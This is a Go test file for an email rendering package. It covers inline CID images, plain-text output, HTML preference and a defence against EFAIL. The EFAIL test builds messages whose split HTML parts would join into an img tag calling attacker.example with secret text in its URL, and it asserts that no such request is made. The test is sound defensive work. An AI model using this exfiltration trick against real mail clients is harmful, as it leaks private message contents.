package render

import (
	"strings"
	"testing"
)

const cidMessage = `From: a@x.example
Subject: cid
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: text/html; charset=utf-8

<p>Logo:</p><img src="cid:logo%40x.example" alt="Our logo"><img src="cid:missing@x.example" alt="Missing"><p>End</p>
--rel
Content-Type: image/png
Content-ID: <logo@x.example>
Content-Disposition: inline

PNGDATA
--rel--
`

func TestFromMessageCID(t *testing.T) {
	m := parse(t, cidMessage)
	d := FromMessage(m, Options{})
	var images []Block
	for _, b := range d.Blocks {
		if b.Kind == Image {
			images = append(images, b)
		}
	}
	if len(images) != 1 || images[0].CID != "logo@x.example" || images[0].Alt != "Our logo" {
		t.Fatalf("images %+v", images)
	}
	if a := InlineImage(m, images[0].CID); a == nil || a.ContentType != "image/png" {
		t.Errorf("InlineImage = %+v", a)
	}
	if got := d.PlainText(); got != "Logo:\n\n[image: Our logo]\n\nEnd" {
		t.Errorf("PlainText %q", got)
	}
}

func TestFromMessageTextAndEmpty(t *testing.T) {
	d := FromMessage(parse(t, "From: a@x.example\nSubject: t\n\nHello\n> quoted\n"), Options{})
	if got := d.PlainText(); got != "Hello\n\n> quoted" {
		t.Errorf("text %q", got)
	}
	if d := FromMessage(nil, Options{}); len(d.Blocks) != 0 {
		t.Errorf("nil message: %+v", d)
	}
	if d := FromMessage(parse(t, "From: a@x.example\n\n"), Options{}); d.PlainText() != "" {
		t.Errorf("empty: %q", d.PlainText())
	}
}

func TestFromMessagePrefersHTML(t *testing.T) {
	m := parse(t, `From: a@x.example
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary=b

--b
Content-Type: text/plain

plain version
--b
Content-Type: text/html

<p>html <i>version</i></p>
--b--
`)
	if got := FromMessage(m, Options{}).PlainText(); !strings.Contains(got, "html version") {
		t.Errorf("got %q", got)
	}
}

func TestFromMessageEFAILParts(t *testing.T) {
	m := parse(t, `From: a@x.example
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html

<img src="http://attacker.example/?
--b
Content-Type: text/html

the secret words
--b
Content-Type: text/html

">
--b--
`)
	for _, remote := range []bool{false, true} {
		d := FromMessage(m, Options{AllowRemote: remote})
		for _, b := range d.Blocks {
			if b.Src != "" {
				t.Errorf("AllowRemote %v: image %q requested", remote, b.Src)
			}
		}
		if !strings.Contains(d.PlainText(), "the secret words") {
			t.Errorf("the middle part's text is not shown on its own: %q", d.PlainText())
		}
	}
	// Without white space in the middle part, joining the parts would make
	// one valid image address carrying the secret.
	m = parse(t, "From: a@x.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"+
		"--b\nContent-Type: text/html\n\n<img src=\"http://attacker.example/x.png?\n"+
		"--b\nContent-Type: text/html\n\ns3cr3t\n"+
		"--b\nContent-Type: text/html\n\n\">\n--b--\n")
	if len(m.HTMLParts) != 3 {
		t.Fatalf("HTMLParts %q", m.HTMLParts)
	}
	d := FromMessage(m, Options{AllowRemote: true})
	for _, b := range d.Blocks {
		if strings.Contains(b.Src, "s3cr3t") {
			t.Fatalf("the secret of another part went into an image address: %q", b.Src)
		}
	}
	if !strings.Contains(d.PlainText(), "s3cr3t") {
		t.Fatalf("the middle part's text is missing: %q", d.PlainText())
	}
}
